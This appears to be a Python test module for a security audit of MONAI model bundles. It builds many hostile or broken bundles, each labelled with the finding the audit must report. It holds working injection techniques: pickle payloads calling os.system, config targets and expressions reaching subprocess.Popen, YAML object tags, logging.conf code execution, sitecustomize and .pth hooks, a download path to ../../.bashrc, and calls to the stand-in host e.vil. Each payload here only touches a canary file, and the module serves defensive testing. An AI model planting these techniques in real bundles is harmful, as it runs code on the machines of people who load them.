"""Hostile and broken bundles, each with the code that the audit must give; payloads create the file CANARY."""

from __future__ import annotations

import io
import json
import pickle
import random
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import numpy as np

from tests.bundle.audit.bundles import LOGGING, Files, encode, make_files

CANARY = "canary-was-here"
TOUCH = f"open('{CANARY}', 'w').close()"
SYSTEM = f"touch {CANARY}"

Maker = Callable[[], Files]
#: Name -> the bundle's files and the code expected. In `LIVE`, MONAI runs the payload when it resolves the config.
CASES: dict[str, tuple[Maker, str]] = {}
LIVE: set[str] = set()


def case(code: str, *, live: bool = False) -> Callable[[Maker], Maker]:
    def add(maker: Maker) -> Maker:
        CASES[maker.__name__] = (maker, code)
        if live:
            LIVE.add(maker.__name__)
        return maker

    return add


def config_case(name: str, code: str, config: dict[str, Any], *, live: bool = False) -> None:
    CASES[name] = (lambda: make_files(config), code)
    if live:
        LIVE.add(name)


class Payload:
    """A pickle that runs a command."""

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (SYSTEM,)


POPEN = {"args": ["touch", CANARY]}
HIDDEN = "monai.utils.misc.subprocess.Popen"
# -- targets
config_case(
    "target_in_the_standard_library", "target-denied", {"x": {"_target_": "subprocess.Popen", **POPEN}}, live=True
)
config_case("target_builtin", "target-denied", {"x": {"_target_": "exec", "_mode_": "callable"}})
config_case(
    "target_builtin_dotted",
    "target-denied",
    {"x": {"_target_": "builtins.open", "file": CANARY, "mode": "w"}},
    live=True,
)
config_case(
    "target_through_an_alias_in_monai",
    "target-denied",
    {"x": {"_target_": "monai.utils.misc.subprocess.Popen", **POPEN}},
    live=True,
)
config_case("target_through_torch", "target-denied", {"x": {"_target_": "torch.os.mkdir", "path": CANARY}}, live=True)
config_case(
    "target_that_locates", "target-denied", {"x": {"_target_": "monai.transforms.io.array.locate", "path": "this"}}
)
config_case("target_with_empty_parts", "target-unknown", {"x": {"_target_": ".subprocess..Popen", **POPEN}}, live=True)
config_case("target_short_name_of_a_runner", "target-denied", {"x": {"_target_": "run", "config_file": "evil.json"}})
config_case(
    "target_runs_a_command", "target-denied", {"x": {"_target_": "run_cmd", "cmd_list": ["touch", CANARY]}}, live=True
)
config_case(
    "target_loads_a_pickle", "target-denied", {"x": {"_target_": "torch.load", "f": "evil.pt", "weights_only": False}}
)
config_case("target_from_a_hub", "target-denied", {"x": {"_target_": "torch.hub.load", "repo_or_dir": "evil/evil"}})
config_case(
    "target_downloads", "target-denied", {"x": {"_target_": "monai.apps.download_and_extract", "url": "http://e.vil"}}
)
config_case("target_is_a_module", "target-module", {"x": {"_target_": "monai.apps.detection.utils"}})
config_case("target_runs_on_import", "target-denied", {"x": {"_target_": "torch.utils.bottleneck.__main__"}})
config_case("target_elsewhere", "target-outside", {"x": {"_target_": "evilpackage.Network"}})
config_case("target_expression", "target-indirect", {"x": {"_target_": f"$lambda: {TOUCH}"}}, live=True)
config_case(
    "target_reference",
    "target-indirect",
    {"name": "subprocess.Popen", "x": {"_target_": "@name", **POPEN}},
    live=True,
)
config_case(
    "target_macro",
    "target-indirect",
    {"names": {"a": "subprocess.Popen"}, "x": {"_target_": "%names#a", **POPEN}},
    live=True,
)
config_case(
    "target_by_override_key",
    "target-denied",
    {"x": {"args": ["touch", CANARY]}, "x#_target_": "subprocess.Popen"},
    live=True,
)
config_case("target_disabled", "target-denied", {"x": {"_target_": "subprocess.Popen", "_disabled_": True, **POPEN}})
# -- what MONAI's own classes load by name
config_case(
    "reader_by_name",
    "named-class",
    {"x": {"_target_": "LoadImage", "reader": "subprocess.Popen", **POPEN}},
    live=True,
)
config_case(
    "reader_by_reference",
    "named-class",
    {"r": ["subprocess.Popen"], "x": {"_target_": "LoadImage", "reader": "@r", **POPEN}},
    live=True,
)
config_case(
    "reader_by_expression",
    "named-class",
    {"x": {"_target_": "LoadImage", "reader": "$'sub' + 'process.Popen'", **POPEN}},
    live=True,
)
config_case(
    "reader_in_an_expression",
    "named-class",
    {"x": f"$monai.transforms.LoadImage('sub' + 'process.Popen', args=['touch', '{CANARY}'])"},
    live=True,
)
config_case(
    "reader_by_root_id", "named-class", {"x": {"_target_": "LoadImage", **POPEN}, "x#reader": HIDDEN}, live=True
)
config_case(
    "reader_by_joined_id", "named-class", {"x": {"_target_": "LoadImage", **POPEN}, "+x": {"reader": HIDDEN}}, live=True
)
for _number in ("0", "-1"):
    config_case(
        f"reader_by_number_{_number}",
        "named-class",
        {"x": {"_target_": "LoadImage", "reader": ["PILReader"], **POPEN}, f"x#reader#{_number}": HIDDEN},
        live=True,
    )
    config_case(
        f"reader_by_reference_and_number_{_number}",
        "named-class",
        {"r": ["PILReader"], f"r#{_number}": HIDDEN, "x": {"_target_": "LoadImage", "reader": "@r#0", **POPEN}},
        live=True,
    )
config_case(
    "reader_in_a_joined_list",
    "named-class",
    {"r": ["PILReader"], "+r": [HIDDEN], "x": {"_target_": "LoadImage", "reader": "@r", **POPEN}},
    live=True,
)
config_case(
    "reader_in_a_copied_group",
    "named-class",
    {"r": {"a": "PILReader"}, "x": {"_target_": "LoadImage", "reader": "%r#a"}},
)
config_case("weights_of_others_by_root_id", "download-argument", {"net#pretrained": True})
config_case("address_by_root_id", "url-in-config", {"net#pretrained_url": "https://e.vil/x.pt"})
config_case(
    "reader_for_a_class_as_a_value",
    "named-class",
    {
        "c": {"_target_": "LoadImage"},
        "c#_mode_": "callable",
        "x": f"$@c('sub' + 'process.Popen', args=['touch', '{CANARY}'])",
    },
    live=True,
)
config_case("reader_of_pickles", "unsafe-argument", {"x": {"_target_": "NumpyReader", "allow_pickle": True}})
# -- modes
config_case("mode_debug", "mode-debug", {"x": {"_target_": "UNet", "_mode_": "debug"}})
config_case("mode_debug_with_blanks", "mode-debug", {"x": {"_target_": "UNet", "_mode_": " debug "}})
config_case("mode_computed", "mode-debug", {"x": {"_target_": "UNet", "_mode_": "$'de' + 'bug'"}})
config_case("debug_argument", "mode-debug", {"x": {"_target_": "UNet", "_debug_": True}})
config_case(
    "requires_with_code", "expression-name", {"x": {"_target_": "Identity", "_requires_": f"${TOUCH}"}}, live=True
)
config_case(
    "disabled_with_code", "expression-name", {"x": {"_target_": "Identity", "_disabled_": f"${TOUCH}"}}, live=True
)
config_case(
    "description_with_code", "expression-name", {"x": {"_target_": "Identity", "_desc_": f"${TOUCH}"}}, live=True
)
# -- expressions
EXPRESSIONS = {
    "import": ("expression-name", f"__import__('os').system('{SYSTEM}')", True),
    "open": ("expression-name", TOUCH, True),
    "eval": ("expression-name", f'eval("{TOUCH}")', True),
    "dunder": ("expression-attribute", f"().__class__.__base__.__subclasses__() and {TOUCH}", True),
    "torch_os": ("expression-call", f"torch.os.system('{SYSTEM}')", True),
    "numpy_load": ("expression-call", "np.load('evil.npy', allow_pickle=True)", False),
    "torch_load": ("expression-call", "torch.load('evil.pt', weights_only=False)", False),
    "module_in_a_list": ("expression-module", f"[torch][0].os.system('{SYSTEM}')", True),
    "module_to_a_lambda": ("expression-module", f"(lambda m: m.os.system('{SYSTEM}'))(torch)", True),
    "default_of_a_lambda": ("expression-module", f"(lambda m=torch: m.os.system('{SYSTEM}'))()", True),
    "map": ("expression-name", f'list(map(eval, ["{TOUCH}"]))', True),
    "format": ("expression-attribute", "'{0.__init__.__globals__}'.format(torch.device)", False),
    "setattr": ("expression-name", "setattr(torch.nn.Module, 'forward', print)", False),
    "walrus": ("expression-node", "(x := 10**8)", False),
    "power": ("expression-size", "9**9**9", False),
    "shift": ("expression-size", "1 << 10**10", False),
    "repetition": ("expression-size", "'a' * 10**10", False),
    "repetition_of_lists": ("expression-size", "[[0] * 9999] * 9999 * 9999", False),
    "range": ("expression-size", "list(range(10**10))", False),
    "width": ("expression-size", "f'{1:9999999999}'", False),
    "nested": ("expression-syntax", "(" * 300 + ")" * 300, False),
    "minus_signs": ("expression-size", "-" * 3900 + "1", False),
    "long": ("expression-size", "+".join("1" * 5000), False),
    "leading_blank": ("expression-syntax", f" {TOUCH}", False),
    "string_that_becomes_code": ("expression-name", "'@f {" + TOUCH.replace("'", '"') + "} '", True),
    "own_references": ("expression-name", "__local_refs['f']", False),
    "package_as_a_value": ("expression-module", "torch.nn", False),
    "package_of_another": ("expression-attribute", "monai.metrics.fid.scipy", False),
    "environment": ("expression-call", "os.environ.update({'LD_PRELOAD': 'evil.so'})", False),
    "module_of_a_module": ("expression-call", f're.enum.bltns.eval("{TOUCH}")', True),
    "path_of_a_path": ("expression-call", f"os.path.os.system('{SYSTEM}')", True),
    "fullwidth_letters": ("expression-call", f"os.\uff53ystem('{SYSTEM}')", True),
    "fullwidth_references": ("expression-name", "\uff3f\uff3flocal_refs['f']", False),
    "instance_of_a_module": ("expression-call", "monai.data.image_reader.logger.manager.setLoggerClass(int)", False),
    "star_arguments": ("expression-node", "monai.transforms.Compose(**{'transforms': []})", False),
    "unlink": ("expression-attribute", "@bundle_root.unlink()", False),
    "method_of_a_class": ("expression-attribute", f"pathlib.Path.write_text(pathlib.Path('{CANARY}'), '')", True),
    "address": ("url-in-config", "monai.networks.nets.HoVerNet(pretrained_url='https://e.vil/x.pt')", False),
    "download": ("download-argument", "monai.networks.nets.senet154(pretrained=True)", False),
    "number_of_400_digits": ("expression-size", f"1{400 * '0'}", False),
    "number_that_cannot_be_written": ("expression-size", f"1 + 0x{3900 * 'f'}", False),
    "text_of_20000": ("expression-size", "1 + " * 5000 + "1", False),
}
for _name, (_code, _text, _live) in EXPRESSIONS.items():
    _imports = ["$import os", "$import re", "$import pathlib"]
    config_case(f"expression_{_name}", _code, {"f": 1, "i": _imports, "x": f"${_text}"}, live=_live)
config_case(
    "import_of_os_as_torch",
    "expression-import",
    {"i": "$import os as torch", "x": f"$torch.system('{SYSTEM}')"},
    live=True,
)
config_case("import_of_subprocess", "expression-import", {"i": "$import subprocess"})
config_case(
    "import_of_a_function", "expression-import", {"i": "$from os import system", "x": f"$system('{SYSTEM}')"}, live=True
)
config_case("import_that_hides_one", "expression-import", {"i": "$import math, subprocess"})
config_case(
    "reference_to_an_import",
    "reference-import",
    {"i": ["$import torch"], "x": f"$@i#0.os.system('{SYSTEM}')"},
    live=True,
)
config_case(
    "reference_to_an_import_in_a_joined_list",
    "reference-import",
    {"l": [1, {"m": 5}], "+l": [{"m": "$import monai.bundle"}], "x": "$@l#2#m.run(config_file='evil.json')"},
)
config_case(
    "reference_to_an_import_after_a_copy",
    "reference-outside",
    {"x": {"m": "$import monai.bundle", "f": "%y#f"}, "y": {"m": {}, "f": "$@#m.run(config_file='evil.json')"}},
)
config_case(
    "key_that_becomes_code_by_a_copy",
    "ambiguous-key",
    {"b": {"z": 1}, "x": [{"x": 0, f"x + len(open('{CANARY}','w').name) + @b": "%y"}], "y": {"k": "$@#z", "z": 0}},
    live=True,
)
config_case(
    "key_that_becomes_code",
    "expression-name",
    {"b": {"z": 1}, "x": [{"x": 0, f"x + len(open('{CANARY}','w').name) + @b": {"k": "$@#z"}}]},
    live=True,
)
config_case(
    "code_after_many_reviews",
    "expression-name",
    {"a": ["$lambda: 0"] * 250, "x": f"${TOUCH}"},
    live=True,
)
config_case("code_after_many_errors", "config-too-large", {"a": ["$evil"] * 250, "x": f"${TOUCH}"}, live=True)
config_case("reference_above_the_root", "reference-outside", {"x": {"y": "@####z"}})
config_case("macro_to_another_file", "macro-outside", {"x": "%/etc/secrets.json#key"})
config_case("macro_on_another_line", "macro-outside", {"x": "%\n/etc/secrets.json#key"})
config_case("macro_with_dots", "macro-outside", {"x": "%../other/configs/train.json"})
config_case("nested_key_with_colons", "ambiguous-key", {"x": {"a": {"b": 1}, "a::b": 2}})


@case("expression-name", live=True)
def expression_in_metadata() -> Files:
    return make_files({"x": "@_meta_::name"}, {"name": f"${TOUCH}"})


@case("expression-import")
def import_in_a_channel_name() -> Files:
    format_ = {"outputs": {"pred": {"channel_def": {"0": "background", "1": "$import canary"}}}}
    return make_files(metadata={"network_data_format": format_})


@case("macro-outside")
def label_that_is_a_macro() -> Files:
    return make_files(metadata={"label_classes": "%/etc/labels.json#0"})


@case("metadata-sign")
def label_that_is_a_reference() -> Files:
    format_ = {"outputs": {"pred": {"channel_def": {"0": "background", "1": "@run"}}}}
    return make_files(metadata={"network_data_format": format_})


@case("ambiguous-key")
def class_name_as_a_key() -> Files:
    return make_files({"labels": {f"${TOUCH}": 1}})


@case("file-name-sign")
def file_name_that_is_an_expression() -> Files:
    return {**make_files(), "docs/$import canary.md": b"x"}


@case("expression-name")
def expression_in_yaml() -> Files:
    return {**make_files(), "configs/inference.yaml": f"x: ${TOUCH}\n".encode()}


@case("target-denied")
def target_in_an_unused_config() -> Files:
    return {**make_files(), "docs/extra.JSON": encode({"x": {"_target_": "os.system", "command": SYSTEM}})}


# -- files that readers evaluate
@case("logging-code")
def logging_class() -> Files:
    text = LOGGING.replace("class=StreamHandler", "class=__import__('os').system").encode()
    return {**make_files(), "configs/logging.conf": text}


@case("logging-code")
def logging_arguments() -> Files:
    return {**make_files(), "configs/logging.conf": LOGGING.replace("(sys.stdout,)", f"({TOUCH},)").encode()}


#: What `fileConfig` runs.
LOGS: dict[str, bytes] = {
    "interpolation": LOGGING.replace(
        "args=(sys.stdout,)", f"note=' + str({TOUCH}) + '\nargs=('%(note)s',)".replace("str(", "repr(")
    ).encode(),
    "interpolated_class": LOGGING.replace("class=StreamHandler", f"x={TOUCH}\nclass=%(x)s or StreamHandler").encode(),
    "defaults": f"[DEFAULT]\nkwargs=%(x)s\nx={{'stream': {TOUCH}}}\n{LOGGING}".encode(),
    "carriage_return": LOGGING.replace("args=(sys.stdout,)", f"# note\rargs=({TOUCH},)").encode(),
    "looks_like_an_archive": f"# {'x' * 255}ustar\n{LOGGING.replace('(sys.stdout,)', f'({TOUCH},)')}".encode(),
    "too_large": b"# note\n" * 1_200_000 + LOGGING.replace("(sys.stdout,)", f"({TOUCH},)").encode(),
}
for _name, _content in LOGS.items():
    CASES[f"logging_{_name}"] = (
        lambda content=_content: {**make_files(), "configs/logging.conf": content},
        "logging-code",
    )


@case("logging-code")
def logging_that_leads_nowhere() -> Files:
    return {**make_files(), "configs/logging.conf": LOGGING.replace("(sys.stdout,)", "(%(nothing)s,)").encode()}


@case("shape-expression")
def shape_with_a_call() -> Files:
    return make_files(metadata={"network_data_format": {"inputs": {"image": {"spatial_shape": [TOUCH, 96]}}}})


@case("shape-expression")
def shape_that_never_ends() -> Files:
    return make_files(metadata={"network_data_format": {"inputs": {"image": {"spatial_shape": ["9**9**9"]}}}})


# -- giants and broken texts
@case("config-too-large")
def config_of_100_megabytes() -> Files:
    return {**make_files(), "configs/big.json": b'{"a": "' + b"x" * 100_000_000 + b'"}'}


@case("config-too-deep")
def config_of_depth_10000() -> Files:
    return {**make_files(), "configs/deep.json": b'{"a":' * 10_000 + b"1" + b"}" * 10_000}


@case("config-too-deep")
def yaml_of_depth_10000() -> Files:
    return {**make_files(), "configs/deep.yaml": b"[" * 10_000 + b"]" * 10_000}


@case("duplicate-key")
def duplicate_key() -> Files:
    return {**make_files(), "configs/twice.json": b'{"x": {"_target_": "UNet", "_target_": "os.system"}}'}


@case("duplicate-key")
def duplicate_key_in_yaml() -> Files:
    return {**make_files(), "configs/twice.yaml": b"x: 1\nx: 2\n"}


@case("yaml-tag")
def yaml_that_builds_objects() -> Files:
    return {**make_files(), "configs/tag.yaml": f"x: !!python/object/apply:os.system ['{SYSTEM}']\n".encode()}


@case("yaml-alias")
def yaml_billion_laughs() -> Files:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return {**make_files(), "configs/laughs.yaml": "\n".join(lines).encode()}


@case("yaml-alias")
def yaml_that_contains_itself() -> Files:
    return {**make_files(), "configs/loop.yaml": b"x: &x [*x]\n"}


@case("config-syntax")
def config_with_nan() -> Files:
    return {**make_files(), "configs/nan.json": b'{"x": NaN}'}


@case("config-syntax")
def config_not_in_utf8() -> Files:
    return {**make_files(), "configs/latin.json": '{"x": "é"}'.encode("latin-1")}


@case("config-syntax")
def number_of_a_million_digits() -> Files:
    return {
        **make_files(),
        "configs/digits.json": b'{"x": 1' + bytes(random.Random(0).choices(b"123456789", k=900_000)) + b"}",
    }


for _number, _text in enumerate(
    [
        *("!!bool maybe", "!!int ''", "!!int [1]", "!!float ''", "!!timestamp x", "!!bool {}", "2001-13-45", "!!map 3"),
        *(f"0x{'f' * 5000}", f"{{0x{'f' * 5000}: 1}}", ":".join("1" * 3000)),
    ]
):
    CASES[f"yaml_value_{_number}"] = (
        lambda text=_text: {**make_files(), "configs/value.yaml": f"amp: {text}\n".encode()},
        "config-syntax",
    )


# -- hidden code
CODE: dict[str, tuple[str, bytes]] = {
    "scripts/train.py": ("unexpected-code", b"import os\nos.system('x')\n"),
    "models/ops.so": ("unexpected-code", b"\x7fELF"),
    "docs/notes.txt": ("unexpected-code", b"#!/bin/sh\ntouch canary\n"),
    "models/helper.data": ("unexpected-code", b"\x7fELF\x02"),
    "sitecustomize.py": ("site-hook", TOUCH.encode()),
    "configs/conftest.py": ("site-hook", TOUCH.encode()),
    "models/start.pth": ("site-hook", f"import os; {TOUCH}\n".encode()),
    "docs/demo.ipynb": ("notebook", b'{"cells": []}'),
    "docs/table.pkl": ("pickle-file", pickle.dumps(Payload())),
    "docs/table.dat": ("pickle-file", pickle.dumps(Payload())),
    "docs/archive.zip": ("nested-archive", b"PK\x05\x06" + bytes(18)),
    "docs/archive.tar.gz": ("nested-archive", b"\x1f\x8b\x08"),
    "docs/picture.png": ("unknown-file", b"PK\x03\x04"),
    "docs/thing.xyz": ("unknown-file", b"x"),
}
for _path, (_code, _content) in CODE.items():
    CASES[f"file_{_path}"] = (lambda path=_path, content=_content: {**make_files(), path: content}, _code)


@case("object-array")
def array_of_objects() -> Files:
    stream = io.BytesIO()
    np.save(stream, np.array([Payload()], dtype=object), allow_pickle=True)
    return {**make_files(), "docs/array.npy": stream.getvalue()}


# -- weights
def zip_members(**members: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as opened:
        for name, content in members.items():
            opened.writestr(f"archive/{name.replace('__', '/').replace('_pkl', '.pkl')}", content)
    return stream.getvalue()


@case("weights-pickle")
def weights_with_a_payload() -> Files:
    content = zip_members(data_pkl=pickle.dumps({"state": Payload()}, protocol=2), version=b"3")
    return {**make_files(), "models/model.pt": content}


@case("weights-pickle")
def weights_of_a_new_protocol() -> Files:
    content = zip_members(data_pkl=pickle.dumps({"state": Payload()}, protocol=5), version=b"3")
    return {**make_files(), "models/model.ckpt": content}


@case("weights-pickle")
def weights_that_are_cut_off() -> Files:
    content = zip_members(data_pkl=pickle.dumps(list(range(100)), protocol=2)[:-5], version=b"3")
    return {**make_files(), "models/model.pt": content}


@case("weights-legacy")
def weights_in_the_old_format() -> Files:
    return {**make_files(), "models/model.pt": pickle.dumps(Payload(), protocol=2)}


@case("weights-legacy")
def weights_with_another_name() -> Files:
    return {**make_files(), "models/model.bin": pickle.dumps(Payload(), protocol=2)}


@case("torchscript")
def weights_with_a_program() -> Files:
    content = zip_members(data_pkl=pickle.dumps({}, protocol=2), code____torch___py=b"def forward(self): ...")
    return {**make_files(), "models/model.ts": content}


def pack_tensors(header: dict[str, Any] | bytes, data: bytes = b"") -> Files:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return {**make_files(), "models/model.safetensors": struct.pack("<Q", len(text)) + text + data}


@case("weights-header")
def tensors_that_overlap() -> Files:
    entry = {"dtype": "F32", "shape": [2]}
    return pack_tensors({"a": {**entry, "data_offsets": [0, 8]}, "b": {**entry, "data_offsets": [4, 12]}}, bytes(12))


@case("weights-header")
def tensors_beyond_the_end() -> Files:
    return pack_tensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, bytes(8))


@case("weights-header")
def tensor_of_another_shape() -> Files:
    return pack_tensors({"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}, bytes(8))


for _number, _changes in enumerate(
    [{"data_offsets": 5}, {"dtype": ["F32"]}, {"dtype": {}}, {"shape": {"a": 1}}, {"shape": [1] * 100}, {"shape": None}]
):
    CASES[f"tensor_with_odd_entry_{_number}"] = (
        lambda changes=_changes: pack_tensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4], **changes}}),
        "weights-header",
    )


@case("weights-header")
def header_of_another_length() -> Files:
    return {**make_files(), "models/model.safetensors": struct.pack("<Q", 2**62) + b"{}"}


@case("weights-header")
def bytes_that_belong_to_nobody() -> Files:
    return pack_tensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8) + TOUCH.encode())


# -- downloads
DOWNLOADS = {
    "insecure-url": {
        "url": "http://e.vil/m.pt",
        "path": "models/model.pt",
        "hash_val": "a" * 64,
        "hash_type": "sha256",
    },
    "url-without-hash": {"url": "https://e.vil/m.pt", "path": "models/model.pt"},
    "weak-hash": {"url": "https://e.vil/m.pt", "path": "models/model.pt", "hash_val": "a" * 32, "hash_type": "md5"},
    "download-path": {
        "url": "https://e.vil/m.pt",
        "path": "../../.bashrc",
        "hash_val": "a" * 64,
        "hash_type": "sha256",
    },
}
for _code, _entry in DOWNLOADS.items():
    CASES[f"download_{_code}"] = (
        lambda entry=_entry: {**make_files(), "large_files.yml": json.dumps({"large_files": [entry]}).encode()},
        _code,
    )

# -- private data
PRIVATE: dict[str, tuple[str, bytes]] = {
    "docs/data.md": ("home-path", b"The data are in /home/jsmith/scans.\n"),
    "docs/windows.md": ("home-path", b"See C:\\Users\\jsmith\\scans.\n"),
    "docs/cases.csv": ("patient-field", b"PatientName: Smith^John\n"),
    "docs/series.txt": ("dicom-uid", b"1.3.6.1.4.1.14519.5.2.1.6279.6001.2985220\n"),
    "docs/key.txt": ("private-key", b"-----BEGIN RSA PRIVATE KEY-----\n"),
    "docs/token.txt": ("private-key", b"hf_" + b"a" * 34),
    ".env": ("private-file", b"TOKEN=1\n"),
    "docs/scan.txt": ("picture", bytes(128) + b"DICM"),
    "models/case.nii.gz": ("picture", b"\x1f\x8b"),
    "models/slice.png": ("picture", b"\x89PNG\r\n"),
    "docs/volume.nii": ("picture", b"x"),
    "models/mask": ("picture", bytes(344) + b"n+1\0"),
    "eval/metrics.txt": ("output-file", b"dice 0.9\n"),
    "configs/train.log": ("output-file", b"epoch 1\n"),
    "models/events.out.tfevents.1": ("output-file", b"x"),
    "models/image.npy": ("array-file", b"\x93NUMPY\x01\0v\0{'descr': '<f4', 'fortran_order': False, 'shape': (1,)}"),
}
for _path, (_code, _content) in PRIVATE.items():
    CASES[f"private_{_path}"] = (lambda path=_path, content=_content: {**make_files(), path: content}, _code)
CASES["text_of_9_megabytes"] = (lambda: {**make_files(), "docs/big.csv": b"a,b\n" * 2_250_000}, "unknown-file")
CASES["patient_after_3_megabytes"] = (
    lambda: {**make_files(), "docs/big.csv": b"a,b\n" * 750_000 + b"PatientName: Smith^John\n"},
    "patient-field",
)
config_case("absolute_path_in_a_config", "absolute-path", {"dataset_dir": "/workspace/data"})


# -- what a person must look at
config_case("argument_that_is_a_program", "code-path", {"x": {"_target_": "CSVSaver", "filename": "sitecustomize.py"}})
config_case("address_in_a_config", "url-in-config", {"x": {"_target_": "CSVDataset", "src": "https://e.vil/x.csv"}})
config_case("class_that_deletes", "target-review", {"x": {"_target_": "PersistentDataset", "cache_dir": "data"}})
config_case("weights_of_others", "download-argument", {"x": {"_target_": "DenseNet121", "pretrained": True}})
config_case("macro_to_a_file", "macro-file", {"x": "%configs/train.json#run"})
config_case("files_of_the_receiver", "expression-review", {"i": "$import glob", "x": "$glob.glob('/etc/*')"})


@case("logging-review")
def logging_over_the_network() -> Files:
    text = LOGGING.replace("class=StreamHandler", "class=logging.handlers.HTTPHandler")
    text = text.replace("(sys.stdout,)", "('e.vil', '/')")
    return {**make_files(), "configs/logging.conf": text.encode()}


@case("not-a-bundle")
def folder_without_configs() -> Files:
    return {"README.md": b"x", "train.json": b"{}"}


@case("metadata-field")
def metadata_without_a_use() -> Files:
    return make_files(metadata={"intended_use": ""})


@case("weights-damaged")
def weights_with_two_pickles() -> Files:
    content = zip_members(data_pkl=pickle.dumps({}, protocol=2), DATA_PKL=b"x")
    return {
        **make_files(),
        "models/model.pt": content.replace(b"DATA.pkl", b"DATA.PKL").replace(b"DATA_PKL", b"DATA.PKL"),
    }


# -- wheels
def make_wheel(**members: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as opened:
        for name, content in members.items():
            opened.writestr(name.replace("__", "/").replace("_py", ".py"), content)
    return stream.getvalue()


@case("foreign-wheel")
def wheel_of_another_package() -> Files:
    return {**make_files(), "evil-1.0-py3-none-any.whl": make_wheel(evil__x_py=TOUCH.encode())}


@case("foreign-wheel")
def wheel_with_a_stranger() -> Files:
    content = make_wheel(pipeline__issues_py=b"", sitecustomize_py=TOUCH.encode())
    return {**make_files(), "monai_segmentation_suite-0.1.0-py3-none-any.whl": content}


@case("wheel-version")
def wheel_of_another_version() -> Files:
    content = make_wheel(pipeline__issues_py=b"")
    return {**make_files(), "monai_segmentation_suite-99.0-py3-none-any.whl": content}


@case("wheel-differs")
def wheel_that_was_changed() -> Files:
    content = make_wheel(pipeline__issues_py=TOUCH.encode())
    return {**make_files(), "monai_segmentation_suite-0.1.0-py3-none-any.whl": content}


# -- checksums
@case("changed-file")
def file_that_was_changed() -> Files:
    return {**make_files(), "SHA256SUMS": b"0" * 64 + b"  LICENSE\n"}


@case("extra-file")
def file_that_was_added() -> Files:
    return {**make_files(), "SHA256SUMS": b""}


@case("missing-file")
def file_that_was_removed() -> Files:
    return {**make_files(), "SHA256SUMS": b"0" * 64 + b"  models/model.pt\n"}


@case("checksum-syntax")
def checksums_that_are_none() -> Files:
    return {**make_files(), "SHA256SUMS": b"hello\n"}
